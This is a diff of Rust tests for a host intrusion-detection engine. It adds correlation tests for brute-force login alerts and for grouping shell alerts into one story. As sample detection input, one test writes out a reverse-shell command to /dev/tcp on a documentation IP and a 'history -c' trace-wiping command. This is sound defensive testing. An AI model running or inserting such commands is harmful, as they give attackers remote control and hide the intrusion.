@@ -16,6 +16,7 @@ struct Bench {
     _dir: tempfile::TempDir,
     state: State,
     engine: Engine,
+    relations: Relations,
     learn: bool,
     position: LogPosition,
 }
@@ -26,10 +27,12 @@ impl Bench {
         let (_, state) = Embedded::open(dir.path()).unwrap();
         let (rules, _) = yinglong_rules::load_default();
         let engine = engine(&rules, &List::default(), &List::default());
+        let relations = Relations::new(dir.path(), &[], 0);
         Self {
             _dir: dir,
             state,
             engine,
+            relations,
             learn,
             position: 0,
         }
@@ -46,7 +49,13 @@ impl Bench {
     fn run(&mut self, entry: &Entry) -> Outcome {
         self.position += 1;
         let mut scratch = Scratch::default();
-        let mut step = Step::new(&self.engine, &mut scratch, &self.state, self.learn);
+        let mut step = Step::new(
+            &self.engine,
+            &mut scratch,
+            &mut self.relations,
+            &self.state,
+            self.learn,
+        );
         step.take(self.position, entry).unwrap();
         let outcome = step.finish();
         self.state.apply(&outcome.changes).unwrap();
@@ -258,8 +267,15 @@ fn a_step_that_was_not_applied_can_be_taken_again_with_the_same_result() {
     let bench = Bench::new(false);
     let entry = entry(1, &[execution("/opt/new", "new"), users(&["ann"])]);
     let take = || {
+        let mut relations = Relations::new(bench._dir.path(), &[], 0);
         let mut scratch = Scratch::default();
-        let mut step = Step::new(&bench.engine, &mut scratch, &bench.state, false);
+        let mut step = Step::new(
+            &bench.engine,
+            &mut scratch,
+            &mut relations,
+            &bench.state,
+            false,
+        );
         step.take(1, &entry).unwrap();
         step.finish()
     };
@@ -286,4 +302,69 @@ fn an_unreadable_record_is_counted_and_harms_no_other() {
             .any(|(_, stream, n)| stream == UNREADABLE && *n == 1)
     );
     assert_eq!(outcome.changes.acked[0].2, 3);
+}
+
+fn failed_login(at: i64) -> Observation {
+    let data = EventData::Loginlog(yinglong_model::event::Login {
+        username: "root".into(),
+        remote: "203.0.113.9".into(),
+        ..yinglong_model::event::Login::default()
+    });
+    let occurred_at = Timestamp::from_secs(at);
+    Observation::Event { occurred_at, data }
+}
+
+#[test]
+fn r03_guessed_passwords_are_one_alert_and_single_failures_none() {
+    let logins = yinglong_correlate::login_detectors(&yinglong_correlate::LoginOptions::default());
+    let mut bench = Bench::new(false);
+    let none = List::default();
+    bench.engine = Engine::new(logins.rules, &none, &none, &Sample::default()).0;
+    bench.relations = Relations::new(bench._dir.path(), &logins.correlations, 0);
+    let failures: Vec<Observation> = (0..20)
+        .map(|second| failed_login(1_763_999_900 + second))
+        .collect();
+    let raised = bench.run(&entry(1, &failures)).raised;
+    assert_eq!(raised.len(), 1, "{raised:?}");
+    let alert = &raised[0];
+    assert!(alert.info.contains("203.0.113.9"), "{alert:?}");
+    assert_eq!(alert.kind, "loginlog");
+    assert!(!alert.story.is_empty());
+    assert!(alert.raw["correlation"]["events"].as_u64().unwrap() >= 10);
+}
+
+#[test]
+fn alerts_below_one_shell_are_one_story() {
+    let mut bench = Bench::new(false);
+    let below = |pid: u32, command: &str| {
+        let data = EventData::Process(Box::new(Process {
+            name: "/usr/bin/bash".into(),
+            command: command.into(),
+            pid,
+            ppid: 700,
+            parentname: "bash".into(),
+            ancestors: vec!["/usr/bin/bash".into()],
+            ..Process::default()
+        }));
+        let occurred_at = Timestamp::from_secs(1_763_999_999);
+        Observation::Event { occurred_at, data }
+    };
+    let entry = entry(
+        1,
+        &[
+            below(700, "bash"),
+            below(701, "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
+            below(702, "history -c"),
+        ],
+    );
+    let outcome = bench.run(&entry);
+    let stories: HashSet<&str> = outcome
+        .changes
+        .alerts
+        .iter()
+        .filter(|alert| alert.source.contains("ommand"))
+        .map(|alert| alert.story.as_str())
+        .collect();
+    assert!(outcome.changes.alerts.len() >= 2);
+    assert_eq!(stories.len(), 1, "{:?}", outcome.changes.alerts);
 }
